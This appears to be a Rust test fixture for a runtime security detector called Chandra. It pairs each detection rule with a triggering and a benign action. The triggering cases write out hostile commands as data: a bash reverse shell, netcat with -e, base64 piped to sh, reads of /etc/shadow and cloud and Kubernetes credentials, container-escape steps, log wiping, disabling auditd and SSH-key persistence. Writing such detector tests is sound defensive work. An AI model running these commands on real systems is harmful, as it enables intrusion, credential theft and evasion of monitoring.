//! The rules that Chandra comes with, each with a deed that it fires of and one of which it must not.

use super::Deed::{
    self, Do, Run, RunAs, RunByListener, RunByServer, RunCopy, RunDeleted, RunFromMemory,
    RunOnTerminal, RunWithoutArguments,
};
use super::calls;
use super::doer::HOST_PROCESS;

/// Where deeds of a rule are done.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// In a container: the rule is about those, or the deed needs files that are its own.
    Container,
    /// In a container and on the machine itself.
    Both,
}
use Place::{Both, Container};

/// A rule with its deeds.
#[derive(Debug, Clone, Copy)]
pub struct Case {
    /// Its name.
    pub rule: &'static str,
    /// Where.
    pub place: Place,
    /// It fires of this.
    pub fires: Deed,
    /// It does not fire of this.
    pub silent: Deed,
}

const fn case(rule: &'static str, place: Place, fires: Deed, silent: Deed) -> Case {
    Case { rule, place, fires, silent }
}

/// A shell that ends before it comes to the rest.
const fn shell(words: &'static [&'static str]) -> Deed {
    Run("/bin/sh", words)
}

/// All of them.
pub const CASES: &[Case] = &[
    case(
        "Interactive shell in a container",
        Container,
        RunOnTerminal("/bin/sh", &["-c", "exit"]),
        RunOnTerminal("/bin/true", &[]),
    ),
    case(
        "Interactive shell without a terminal",
        Both,
        Run("/usr/bin/bash", &["--noprofile", "-i"]),
        Run("/usr/bin/bash", &["-c", "exit", "-i"]),
    ),
    case(
        "Server runs a program",
        Both,
        RunByServer("nginx", "id", &[]),
        RunByServer("nginx-agent", "id", &[]),
    ),
    case(
        "Web server runs a shell",
        Both,
        RunByServer("apache2", "/bin/sh", &["-c", "exit"]),
        RunByServer("apache2", "/bin/sh", &["-c", "exit; /usr/sbin/sendmail -t -i"]),
    ),
    case(
        "Program that listens runs a shell",
        Both,
        RunByListener("helpdesk", "/bin/sh", &["-c", "exit"]),
        RunByServer("helpdesk-batch", "/bin/sh", &["-c", "exit"]),
    ),
    case(
        "Shell under another name",
        Both,
        RunAs("/usr/bin/bash", "sshd", &["-c", "exit"]),
        RunAs("/usr/bin/bash", "-bash", &["-c", "exit"]),
    ),
    case(
        "Program named like a thread of the kernel",
        Both,
        RunAs("/usr/bin/true", "[kworker/0:1]", &[]),
        RunAs("/usr/bin/true", "[worker]", &[]),
    ),
    case(
        "Reverse shell by a command line",
        Both,
        Run("/usr/bin/bash", &["-c", "exit; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]),
        Run("/usr/bin/bash", &["-c", "exit; echo > /dev/tcp/127.0.0.1/9"]),
    ),
    case(
        "Netcat runs a program",
        Both,
        Run("nc", &["-e", "/bin/sh", "127.0.0.1", "9"]),
        Run("nc", &["-z", "127.0.0.1", "9"]),
    ),
    case(
        "Terminal made by a command line",
        Both,
        Run("script", &["-qc", "/bin/bash", "/dev/null"]),
        Run("script", &["-c", "make", "build.log"]),
    ),
    case(
        "Downloaded text is run",
        Both,
        shell(&["-c", "exit; echo bHM= | base64 -d | sh"]),
        shell(&["-c", "exit; echo bHM= | base64 -d > text"]),
    ),
    case("Program run from memory", Both, RunFromMemory, Run("stand-in", &[])),
    case("Deleted program run in a container", Container, RunDeleted, RunCopy("/copy")),
    case(
        "Program that is not from the image",
        Container,
        RunCopy("/drifted"),
        Run("/bin/true", &[]),
    ),
    case(
        "Program run from a place for temporary data",
        Both,
        RunCopy("/tmp/.chandra-test/stand-in"),
        Run("stand-in", &[]),
    ),
    case(
        "Package manager in a container",
        Container,
        Run("apt-get", &["install", "-y", "nmap"]),
        Run("apt-get", &["--version"]),
    ),
    case("Tool of attackers", Both, Run("linpeas.sh", &[]), Run("linpeas-report", &[])),
    case(
        "Tool for more rights in a container",
        Container,
        Run("sudo", &["id"]),
        Run("su", &["nobody", "-c", "id"]),
    ),
    case(
        "pkexec without any argument",
        Both,
        RunWithoutArguments("pkexec"),
        Run("pkexec", &["--version"]),
    ),
    case(
        "Set-user-id bit set by a command",
        Both,
        Run("chmod", &["4755", "tool"]),
        Run("chmod", &["0755", "tool"]),
    ),
    case(
        "Process of a container in the host's mount namespace",
        Container,
        Run("/usr/bin/nsenter", &["-t", HOST_PROCESS, "-m", "/bin/true"]),
        Run("/usr/bin/nsenter", &["-t", HOST_PROCESS, "-u", "/bin/true"]),
    ),
    case(
        "Container enters the host",
        Container,
        Run("/usr/bin/nsenter", &["-t", "1", "-i", "/bin/true"]),
        Run("/usr/bin/nsenter", &["--version"]),
    ),
    case(
        "New user namespace by a command in a container",
        Container,
        Run("/usr/bin/unshare", &["-U", "/bin/true"]),
        Run("/usr/bin/unshare", &["-u", "/bin/true"]),
    ),
    case(
        "Handler of the kernel set by a command line",
        Container,
        shell(&["-c", "exit; echo /cmd > /sys/fs/cgroup/rdma/x/release_agent"]),
        shell(&["-c", "exit; cat /proc/sys/kernel/core_pattern"]),
    ),
    case(
        "Container runtime used from a container",
        Container,
        Run("curl", &["--unix-socket", "/var/run/docker.sock", "http://x/containers/json"]),
        Run("curl", &["http://127.0.0.1/docker.sock.html"]),
    ),
    case(
        "Disk of the host opened by a command in a container",
        Container,
        Run("mount", &["/dev/sda1", "/mnt"]),
        Run("mount", &["-t", "tmpfs", "none", "/mnt"]),
    ),
    case(
        "Kernel module loaded by a command in a container",
        Container,
        Run("insmod", &["/tmp/module.ko"]),
        Run("modprobe", &["br_netfilter"]),
    ),
    case(
        "Debugger attached in a container",
        Container,
        Run("strace", &["-f", "-p", "1"]),
        Run("strace", &["-f", "true"]),
    ),
    case(
        "Search for credentials",
        Both,
        Run("find", &["/", "-name", "id_rsa"]),
        Run("find", &["/", "-name", "id_list"]),
    ),
    case(
        "Sensitive file read by a command",
        Both,
        Run("cat", &["/etc/shadow"]),
        Run("cat", &["/etc/passwd"]),
    ),
    case(
        "Service account token read by a command",
        Container,
        Run("cat", &["/var/run/secrets/kubernetes.io/serviceaccount/token"]),
        Run("cat", &["/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"]),
    ),
    case(
        "Cloud credentials asked for by a command line",
        Both,
        Run("curl", &["http://169.254.169.254/latest/meta-data/iam/security-credentials/role"]),
        Run("curl", &["http://169.254.169.254/latest/meta-data/placement/zone"]),
    ),
    case(
        "Cloud metadata read by a tool",
        Container,
        Do("curl", calls::connect_to_metadata),
        Do("agent", calls::connect_to_metadata),
    ),
    case(
        "Log cleared by a command",
        Both,
        Run("rm", &["-f", "/var/log/wtmp"]),
        Run("rm", &["-f", "/var/log/app.log"]),
    ),
    case(
        "Security service stopped by a command",
        Both,
        Run("systemctl", &["stop", "auditd"]),
        Run("systemctl", &["restart", "auditd"]),
    ),
    case(
        "Persistence by a command line",
        Both,
        shell(&["-c", "exit; echo key >> /root/.ssh/authorized_keys"]),
        shell(&["-c", "exit; cat /root/.ssh/authorized_keys"]),
    ),
    case(
        "Remote copy tool in a container",
        Container,
        Run("scp", &["secrets", "user@example.test:/tmp"]),
        Run("rsync", &["-a", "/source", "/target"]),
    ),
    case("Scanner or sniffer in a container", Container, Run("nmap", &[]), Run("nmap-parse", &[])),
    case(
        "Crypto miner",
        Both,
        Run("worker", &["-o", "stratum+tcp://127.0.0.1:3333", "-u", "x"]),
        Run("grep", &["stratum+tcp://127.0.0.1:3333", "rules"]),
    ),
    case(
        "Connection to a mining pool",
        Container,
        Do("worker", calls::connect_to_pool),
        Do("worker", calls::connect_to_namesake_of_pool),
    ),
    case(
        "Connection to a port of mining pools",
        Container,
        Do("worker", calls::connect_to_port_of_pools),
        Do("worker", calls::connect_to_private_port_of_pools),
    ),
    case(
        "Passwords of users read",
        Container,
        Do("reader", calls::read_shadow),
        Do("reader", calls::read_passwd),
    ),
    case(
        "Private key read",
        Container,
        Do("reader", calls::read_private_key),
        Do("reader", calls::read_known_hosts),
    ),
    case(
        "Handler of the kernel opened for writing",
        Container,
        Do("writer", calls::open_core_pattern_for_writing),
        Do("writer", calls::read_core_pattern),
    ),
    case(
        "Log emptied or removed",
        Container,
        Do("writer", calls::empty_log),
        Do("writer", calls::append_to_log),
    ),
    case(
        "Process attached to in a container",
        Container,
        Do("tracer", calls::attach),
        Do("tracer", calls::ask_to_be_traced),
    ),
    case(
        "Kernel module loaded from a container",
        Container,
        Do("loader", calls::load_no_module),
        Do("modprobe", calls::load_no_module),
    ),
    case(
        "Container enters other namespaces",
        Container,
        Do("visitor", calls::enter_names_of_the_host),
        Do("visitor", calls::enter_network_of_the_host),
    ),
    case(
        "New user namespace in a container",
        Container,
        Do("maker", calls::make_user_namespace),
        Do("maker", calls::make_name_namespace),
    ),
    case(
        "Set-user-id bit set",
        Container,
        Do("maker", calls::set_user_id_bit),
        Do("maker", calls::set_no_user_id_bit),
    ),
    case(
        "Persistence written in a container",
        Container,
        Do("writer", calls::write_cron_table),
        Do("writer", calls::write_settings),
    ),
    case(
        "Shell on a network connection",
        Both,
        Do("caller", calls::shell_on_connection),
        Do("caller", calls::shell_on_local_socket),
    ),
    case(
        "Socket put onto standard input",
        Container,
        Do("caller", calls::put_connection_onto_standard_input),
        Do("caller", calls::put_local_socket_onto_standard_input),
    ),
    case(
        "Container runtime asked from a container",
        Container,
        Do("asker", calls::ask_container_runtime),
        Do("asker", calls::ask_another_service),
    ),
];
